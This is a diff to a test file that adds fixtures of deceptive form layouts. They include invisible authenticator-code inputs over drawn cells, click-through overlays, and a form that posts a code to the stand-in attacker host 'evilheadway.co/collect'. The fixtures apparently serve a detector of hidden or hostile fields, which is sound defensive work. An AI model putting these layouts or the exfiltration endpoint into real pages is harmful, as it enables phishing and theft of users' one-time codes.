@@ -23,6 +23,12 @@ const BUTTON = `<button type="button">Continue</button>`;
 const inForm = (field: string) => `<form>${field}${BUTTON}</form>`;
 const BOX = `position: absolute; left: 0; top: 0; width: 600px; height: 400px`;
 
+/** A field that is not seen itself, over six cells that are, as some sites ask for codes. */
+const CELLS = `<div style="position: relative; width: 300px; height: 50px"><div aria-hidden="true"
+  style="display: flex; gap: 6px">${`<i style="width: 42px; height: 48px; border: 1px solid"></i>`.repeat(6)}</div>
+  <input id="code" name="code" inputmode="numeric" maxlength="6" aria-label="Code from your authenticator app"
+  style="position: absolute; inset: 0; width: 100%; opacity: 0"></div>`;
+
 export const TRAPS: readonly Trap[] = [
   {
     name: "an opaque cover over the field",
@@ -38,6 +44,32 @@ export const TRAPS: readonly Trap[] = [
     name: "a cover that lets clicks through, earlier in the page and inside a positioned box",
     body: `<div style="${BOX}; z-index: 5; pointer-events: none"><div style="width: 600px;
       height: 400px; background: rgb(255 255 255 / 0.95)">Nothing</div></div>${inForm(FIELD)}`,
+    mayHold: null,
+  },
+  {
+    name: "an unseen field over drawn cells",
+    body: inForm(CELLS),
+    mayHold: null,
+  },
+  {
+    name: "a cover that lets clicks through, over drawn cells and the unseen field on them",
+    body: `${inForm(CELLS)}<div style="${BOX}; background: #fff; pointer-events: none">Nothing</div>`,
+    mayHold: null,
+  },
+  {
+    name: "drawn cells that are as faint as the field on them",
+    body: `<div style="opacity: 0.1">${inForm(CELLS)}</div>`,
+    mayHold: null,
+  },
+  {
+    name: "an unseen field beside drawn cells",
+    style: "#code { top: 60px !important }",
+    body: inForm(CELLS),
+    mayHold: null,
+  },
+  {
+    name: "a form that goes to another site, with drawn cells",
+    body: `<form action="https://evilheadway.co/collect" method="post">${CELLS}${BUTTON}</form>`,
     mayHold: null,
   },
   {
